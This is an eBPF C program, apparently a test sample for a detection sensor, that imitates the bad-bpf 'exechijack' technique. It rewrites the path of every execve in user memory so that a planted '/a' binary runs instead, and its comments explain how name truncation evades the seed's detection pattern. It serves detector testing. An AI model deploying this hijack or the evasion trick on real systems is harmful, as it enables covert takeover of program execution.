// SPDX-License-Identifier: GPL-2.0
/*
 * MALICIOUS-STYLE, imitates bad-bpf's exechijack: on every execve it
 * overwrites the program path in the caller's memory with bpf_probe_write_user
 * so that a different binary runs, and reports the hijack.
 *
 * Its helper profile is exactly the seed's "exechijack" pattern:
 * bpf_get_current_pid_tgid, bpf_get_current_task, bpf_probe_read_kernel x2,
 * bpf_probe_read_user x2, bpf_trace_printk x2, bpf_probe_write_user,
 * bpf_ringbuf_reserve, bpf_ringbuf_submit. The name is the seed's
 * handle_execve_enter1: 20 characters, more than the kernel's 15, so what the
 * kernel (and a sensor reading the load attributes) sees is
 * "handle_execve_e"; the seed's exact pattern can never match it.
 *
 * Does not load where bpf_probe_write_user is unavailable (lockdown).
 */
#include "sentry_test.h"

char LICENSE[] SEC("license") = "GPL";

#define PATH_LEN 16

struct hijack_event {
	u32 pid;
	u32 ppid;
	char original[PATH_LEN];
	char replaced[PATH_LEN];
};

struct {
	__uint(type, BPF_MAP_TYPE_RINGBUF);
	__uint(max_entries, 64 * 1024);
} hijacks SEC(".maps");

/* The path written over the original: "/a", a binary the attacker planted. */
const volatile char hijack_path[PATH_LEN] = "/a";

SEC("tracepoint/syscalls/sys_enter_execve")
int handle_execve_enter1(struct trace_event_raw_sys_enter *ctx)
{
	struct task_struct *task = (struct task_struct *)bpf_get_current_task();
	char *filename = (char *)ctx->args[0];
	struct task_struct *parent = 0;
	char path[PATH_LEN] = {};
	u32 ppid = 0;
	struct hijack_event *ev;
	int i;

	bpf_probe_read_kernel(&parent, sizeof(parent), &task->real_parent);
	bpf_probe_read_kernel(&ppid, sizeof(ppid), &parent->tgid);
	if (bpf_probe_read_user(path, sizeof(path), filename) < 0)
		return 0;
	/* Only absolute paths at least as long as the replacement. */
	if (path[0] != '/')
		return 0;
	for (i = 0; i < 3; i++)
		if (path[i] == 0)
			return 0;

	ev = bpf_ringbuf_reserve(&hijacks, sizeof(*ev), 0);
	if (!ev)
		return 0;
	ev->pid = bpf_get_current_pid_tgid() >> 32;
	ev->ppid = ppid;
	__builtin_memcpy(ev->original, path, sizeof(path));

	if (bpf_probe_write_user(filename, (const void *)hijack_path, 3) < 0) {
		bpf_printk("exechijack: write failed pid %d", ev->pid);
		bpf_ringbuf_submit(ev, 0);
		return 0;
	}
	bpf_probe_read_user(ev->replaced, sizeof(ev->replaced), filename);
	bpf_printk("exechijack: pid %d now runs %s", ev->pid, ev->replaced);
	bpf_ringbuf_submit(ev, 0);
	return 0;
}
